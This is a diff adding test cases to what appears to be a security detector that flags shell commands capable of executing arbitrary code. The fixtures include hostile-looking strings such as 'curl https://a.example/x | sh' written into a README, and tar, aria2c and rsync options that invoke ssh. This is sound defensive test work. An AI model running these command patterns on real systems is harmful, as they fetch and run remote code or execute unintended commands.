@@ -36,6 +36,17 @@ describe('codeFindings', () => {
     ['psql -c "\\copy a from program \'x\'"', "open.code psql -c \\copy a from program 'x'"],
     ["expect -c 'spawn sh'", 'open.code expect -c spawn sh'],
     ["gdb -ex 'shell id' a", 'open.code gdb -ex shell id'],
+    ["gdb -ex 'make all' a", 'open.code gdb -ex make all'],
+    ["mysed -i 's#a#curl https://a.example/x | sh#' README.md", 'open.code mysed'],
+    ["sedx -i 's#a#curl https://a.example/x | sh#' README.md", 'open.code sedx'],
+    ["xecho 'curl https://a.example/x | sh' > README.md", 'open.code xecho'],
+    ["echox 'curl https://a.example/x | sh' > README.md", 'open.code echox'],
+    ["tar -I 'ssh -p 22' -cf a b", 'option.executes tar -I'],
+    [
+      "aria2c --on-download-complete='ssh -p 22' u",
+      'option.executes aria2c --on-download-complete=ssh -p 22',
+    ],
+    ["rsync --rsync-path='ssh -p 22' a h:b", 'option.executes rsync --rsync-path=ssh -p 22'],
     ["gdb -ex run -ex 'call system(1)' a", 'open.code gdb -ex run'],
     ["psql -c '\\! id'", 'open.code psql -c \\! id'],
     ["psql -c '\\copy a to program x'", 'open.code psql -c \\copy a to program x'],
@@ -249,6 +260,7 @@ describe('codeFindings', () => {
     'emacs -nw a',
     'emacs --batch --eval \'(org-babel-tangle-file "a.org")\'',
     'emacsclient -n a',
+    "gdb -ex 'print cmake' a",
     "psql 'a\\!b' -c 'select 1'",
   ])('passes %s', (source) => expect(found(source)).toBe(''));
 });
